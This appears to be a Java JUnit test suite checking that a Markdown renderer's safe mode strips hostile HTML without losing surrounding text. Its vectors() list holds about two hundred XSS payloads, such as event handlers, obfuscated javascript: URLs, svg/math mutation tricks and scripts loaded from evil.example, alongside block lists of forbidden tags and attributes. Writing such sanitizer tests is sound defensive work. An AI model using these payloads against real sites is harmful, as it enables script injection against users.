package dev.dateline.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import dev.dateline.markdown.syntax.BodyProblem;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** In safe mode no author's HTML runs, frames or restyles anything, and nothing else is lost. */
class HtmlSafetyTest {
  private static final Markdown SAFE =
      new Markdown(new MarkdownOptions(false, List.of("player.example.org"), true));

  private static final Set<String> FORBIDDEN =
      Set.of(
          "script",
          "style",
          "object",
          "embed",
          "applet",
          "base",
          "meta",
          "link",
          "form",
          "button",
          "textarea",
          "select",
          "option",
          "isindex",
          "svg",
          "math",
          "frame",
          "frameset",
          "noscript",
          "template",
          "slot",
          "portal",
          "dialog",
          "marquee",
          "blink",
          "keygen",
          "xmp",
          "plaintext",
          "noembed",
          "noframes",
          "title",
          "html",
          "head",
          "body",
          "foreignobject",
          "animate",
          "set",
          "image",
          "bgsound",
          "layer",
          "xml",
          "iframe",
          "h1");

  static Stream<String> vectors() {
    return Stream.of(
        // tags that two readers might see in different places
        "<div><img src=https://x.example/x onerror=alert(1) '>'",
        "<div><img src=x onerror=alert(1) \"><b>\"",
        "<b '><i title=\"' onclick=alert(1)>text</i>",
        "<b a='\"'\"onclick=alert(1)>text</b>",
        "<img src=x\n'\"onerror=alert(1)//'>",
        "<div><p '\n\n<b onclick=alert(1) '>text</b>",
        // scripts
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/src=//evil.example/x.js></script>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1);//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script x>alert(1)</script 1=2>",
        "<script>alert('</b>')</script>",
        "<div><script>alert(1)</div>",
        "<div>\n<script>\nalert(1)\n</div>",
        "<p><script>alert(1)</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<div><style>*{x:expression(alert(1))}</div>",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<noembed><script>alert(1)</script></noembed>",
        "<noframes><script>alert(1)</script></noframes>",
        // event handlers
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img src=x/onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src='x' ONERROR = 'alert(1)'>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=`x` onerror=alert(1)>",
        "<IMG SRC=x onError=\"&#97;lert(1)\">",
        "<b onmouseover=alert(1)>text</b>",
        "<b/onclick=alert(1)>text</b>",
        "<b \u0000onclick=alert(1)>text</b>",
        "<b on\u0000click=alert(1)>text</b>",
        "<b \u000conclick=alert(1)>text</b>",
        "<details open ontoggle=alert(1)>text</details>",
        "<video src=x onerror=alert(1)></video>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)></audio>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select onfocus=alert(1) autofocus><option>text</option></select>",
        "<marquee onstart=alert(1)>text</marquee>",
        "<table><td background=javascript:alert(1) onclick=alert(1)>text</td></table>",
        "<x onclick=alert(1)>text</x>",
        "<a href=# onclick=alert(1)>text</a>",
        "<a style=\"animation:x\" onanimationstart=alert(1)>text</a>",
        "<p title='\"><script>alert(1)</script>'>text</p>",
        "<p title=\"'><img src=x onerror=alert(1)>\">text</p>",
        // addresses that run
        "<a href=javascript:alert(1)>text</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">text</a>",
        "<a href=\" \u0001javascript:alert(1)\">text</a>",
        "<a href=\"java\tscript:alert(1)\">text</a>",
        "<a href=\"java\nscript:alert(1)\">text</a>",
        "<a href=\"java&#9;script:alert(1)\">text</a>",
        "<a href=\"java&Tab;script&colon;alert(1)\">text</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">t</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)\">text</a>",
        "<a href=\"&#0000106avascript:alert(1)\">text</a>",
        "<a href=\"java&NewLine;script:alert(1)\">text</a>",
        "<a href=\"javascript&#x3a;alert(1)\">text</a>",
        "<a href='vbscript:msgbox(1)'>text</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>text</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">text</a>",
        "<a href=\"view-source:javascript:alert(1)\">text</a>",
        "<a href=\"feed:javascript:alert(1)\">text</a>",
        "<a href=\"jar:https://evil.example!/\">text</a>",
        "<a xlink:href=javascript:alert(1)>text</a>",
        "<a ping=//evil.example href=x>text</a>",
        "<img src=javascript:alert(1)>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img srcset=\"javascript:alert(1) 2x\" src=x>",
        "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
        "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
        "<blockquote cite=javascript:alert(1)>text</blockquote>",
        "<q cite=\"java&#10;script:alert(1)\">text</q>",
        "<table background=javascript:alert(1)><tr><td>text</td></tr></table>",
        "[text](javascript:alert(1))",
        "[text](JAVASCRIPT:alert(1))",
        "[text](java&#115;cript:alert(1))",
        "[text](&#x6A;avascript:alert(1))",
        "[text](javascript&colon;alert(1))",
        "[text](javascript\\:alert(1))",
        "[text](<java\tscript:alert(1)>)",
        "[text](<  javascript:alert(1)>)",
        "[text](data:text/html;base64,PHNjcmlwdD4=)",
        "[text]( vbscript:x )",
        "[text][r]\n\n[r]: javascript:alert(1)",
        "![text](javascript:alert(1))",
        "![text](data:image/svg+xml;base64,PHN2Zz4=)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[text](x \"\\\" onclick=alert(1) \\\"\")",
        "![t\" onerror=\"alert(1)](x)",
        // frames, plug-ins and documents within the document
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=https://evil.example/></iframe>",
        "<iframe src=https://player.example.org.evil.example/></iframe>",
        "<iframe src=https://player.example.org.evil.example/></iframex>",
        "<iframe src=https://player.example.org.evil.example/></iframehttps://player.example.org>",
        "<iframe src=https://player.example.org@evil.example/></iframe>",
        "<iframe src=http://player.example.org/></iframe>",
        "<iframe src=//player.example.org/></iframe>",
        "<iframe src=\"https:\\\\evil.example\"></iframe>",
        "<iframe src=/local></iframe>",
        "<iframe><script>alert(1)</script></iframe>",
        "<object data=x></object>",
        "<object data=javascript:alert(1)>text",
        "<embed src=javascript:alert(1)>",
        "<applet code=x>text</applet>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<form action=javascript:alert(1)><button>text</button></form>",
        "<button formaction=javascript:alert(1)>text</button>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<template><script>alert(1)</script></template>",
        "<isindex action=javascript:alert(1)>",
        "<portal src=//evil.example></portal>",
        // other languages within HTML
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)//",
        "<svg><a xlink:href=javascript:alert(1)><text>text</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
            + " onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!-- --!><script>alert(1)</script> -->",
        // tags that do not end
        "<img src=x onerror=alert(1) ",
        "<div title=\"",
        "<div title='x",
        "<div title=",
        "<div ",
        "<div\n",
        "</div",
        "<div>\n<!-- comment",
        "<div>\n<b title=\"x",
        "<b>",
        "<a href=x>",
        "<object>",
        "<table><tr><td>",
        "</p></div></article></main></body></html>",
        "</blockquote></li></ul>",
        "<script>alert(1)",
        "<script src=x",
        "<style>*{x:y}",
        "<iframe src=https://player.example.org/",
        "<iframe src=https://player.example.org/>",
        "<textarea>",
        "<xmp>",
        "<plaintext>",
        "<noscript>",
        "<title>",
        "<!-- comment",
        "<!--",
        "<!---",
        "<![CDATA[ text",
        "<?php text",
        "<!X text",
        "<pre>\n<script>",
        // style
        "<p style=\"position:fixed;inset:0\">text</p>",
        "<p style=\"background:url(javascript:alert(1))\">text</p>",
        "<font style='x:expression(alert(1))'>text</font>",
        // in the middle of Markdown
        "> <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
        "- <script>alert(1)</script>\n- <b onclick=alert(1)>text</b>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "# Title <script>alert(1)</script>",
        "*a <svg onload=alert(1)> b*",
        "[<img src=x onerror=alert(1)>](x)",
        "Note.[^1]\n\n[^1]: <script>alert(1)</script> <b onclick=alert(1)>text</b>",
        "Term <script>alert(1)</script>\n: <img src=x onerror=alert(1)>",
        "`<script>alert(1)</script>`",
        "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "http://x.example/\"onmouseover=alert(1)/",
        "https://x.example/<script>alert(1)</script>");
  }

  private static final Set<String> ADDRESSES =
      Set.of("href", "src", "poster", "cite", "data", "longdesc", "usemap", "profile");

  private static final Set<String> ATTRIBUTES =
      Set.of(
          "style",
          "srcdoc",
          "srcset",
          "action",
          "formaction",
          "background",
          "ping",
          "xlink:href",
          "http-equiv",
          "content",
          "values",
          "dynsrc",
          "lowsrc",
          "manifest",
          "code",
          "is");

  @Test
  void readsATagWhoseNameHoldsTheBeginningOfAnother() {
    String body = "Before. A <i-=h)</s`p'x-=h)</s`p' =\"'a = 'p\n\n[r] s=\"p> a\n\nBehind.\n";

    String html = render(body).html();

    assertThat(html).contains("Before.").contains("Behind.");
    assertThat(PagePolicy.violations(Jsoup.parseBodyFragment(html))).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void letsNothingHarmfulPassAndKeepsTheTextAround(String vector) {
    String html = render("The text before.\n\n" + vector + "\n\nThe *text* after.\n").html();
    Document page = Jsoup.parseBodyFragment(html);

    assertHarmless(page);
    assertThat(page.select("p").first().text()).isEqualTo("The text before.");
    assertThat(page.body().text()).containsPattern("The \\*?text\\*? after\\.");
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void letsNothingHarmfulPassWithinAParagraph(String vector) {
    String html = render("The start " + vector + " the end.\n\nThe last.\n").html();

    assertHarmless(Jsoup.parseBodyFragment(html));
    assertThat(Jsoup.parse(html).text()).startsWith("The start").contains("The last.");
  }

  static void assertHarmless(Document page) {
    for (Element element : page.body().getAllElements()) {
      String name = element.normalName();
      if (name.equals("iframe")) {
        assertThat(element.attr("src")).startsWith("https://player.example.org/");
      } else if (name.equals("input")) {
        assertThat(element.attr("type")).isEqualTo("checkbox");
      } else if (element != page.body()) {
        assertThat(FORBIDDEN).doesNotContain(name);
      }
      for (Attribute attribute : element.attributes()) {
        assertHarmless(attribute);
      }
    }
    assertThat(page.head().childNodes()).isEmpty();
    assertThat(page.wholeText()).doesNotContain("own-").doesNotContain("line-");
  }

  private static void assertHarmless(Attribute attribute) {
    String name = attribute.getKey().toLowerCase(Locale.ROOT);
    assertThat(name).doesNotStartWith("on").doesNotStartWith("own-").doesNotStartWith("line-");
    assertThat(ATTRIBUTES).doesNotContain(name);
    if (ADDRESSES.contains(name)) {
      String address = attribute.getValue().replaceAll("[\\x00-\\x20\\s]", "");
      assertThat(address.toLowerCase(Locale.ROOT))
          .doesNotMatch("(javascript|vbscript|data|view-source|jar|feed):.*");
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<script>x</script>                      | 3 | the tag <script> is not allowed",
        "text <object>in</object>                | 3 | the tag <object> is not allowed",
        "text\\n<b onclick=x>b</b>                | 4 | the attribute onclick of <b>",
        "<div>\\n<p>\\n<b\\nstyle=x>b</b></p></div>  | 5 | the attribute style of <b>",
        "> text\\n> <svg></svg>                   | 4 | the tag <svg> is not allowed",
        "- a\\n- <form>\\n  text</form>            | 4 | the tag <form> is not allowed",
        "<a href='javascript:x'>a</a>            | 3 | a javascript: address is not allowed in a link",
        "<img src='data:text/html,x'>            | 3 | a data: address is not allowed in an image",
        "[a](vbscript:x)                         | 3 | a vbscript: address is not allowed in a link",
        "<iframe src='https://a.example'></iframe> | 3 | the tag <iframe> is not allowed",
        "<div>\\n<!-- text                        | 4 | the comment has no end",
        "<!-- text                               | 3 | the comment has no end",
        "<div>\\n<b title='x                      | 4 | the tag <b has no end",
        "<div>\\n</div                            | 4 | the tag </div has no end",
        "<?php x ?>                              | 3 | the declaration <? is not allowed",
        "<![CDATA[ x ]]>                         | 3 | the section <![CDATA[ is not allowed",
      })
  void reportsWhatIsLeftOut(String vector, int line, String message) {
    List<BodyProblem> problems =
        render("Text.\n\n" + vector.replace("\\n", "\n") + "\n").problems();

    assertThat(problems).hasSize(1);
    assertThat(problems.get(0).line()).isEqualTo(line);
    assertThat(problems.get(0).message()).startsWith(message);
  }

  @Test
  void reportsEachOfSeveralOnItsOwnLine() {
    String body = "<i>a</i> <script>1</script>\n\n<script>2</script>\n\n<i id=x onclick=y>b</i>\n";

    assertThat(render(body).problems()).extracting(BodyProblem::line).containsExactly(1, 3, 5);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!-- <div class=x\n\nthe middle\n\n<b>words</b>",
        "<style>\n<b title=\"\n\nthe middle\n\n\">words",
        "<?php </b\n\nthe middle\n\n<i>words</i>",
        "<script>x</script \n\nthe middle\n\n<b>words</b>",
        "<pre>\n<div\n\nthe middle\n\n<b>words</b>",
        "<!-- x --!><div\n\nthe middle\n\n<b>words</b>",
        "<!-- <textarea a='\n\nthe middle\n\n'>words</textarea>"
      })
  void losesNoParagraphInATagBehindWhatHasNoEnd(String body) {
    String html = render(body + "\n\nThe last.\n").html();

    assertThat(Jsoup.parse(html).text()).contains("the middle").contains("words", "The last.");
  }

  private static RenderedBody render(String body) {
    return TestBody.render(SAFE, body);
  }

  @ParameterizedTest
  @CsvSource({
    "'target=_blank rel=opener', noopener",
    "'target=_blank rel=\"external OPENER\"', external noopener",
    "'target=_blank rel=noreferrer', noreferrer",
    "'target=_blank', noopener noreferrer",
    "'rel=\"nofollow opener\"', nofollow",
  })
  void letsNoOtherPageLeadThisOneElsewhere(String attributes, String rel) {
    String html =
        TestBody.render(SAFE, "<a href=https://e.example/ " + attributes + ">x</a>").html();

    assertThat(Jsoup.parse(html).selectFirst("a").attr("rel")).isEqualTo(rel);
  }
}
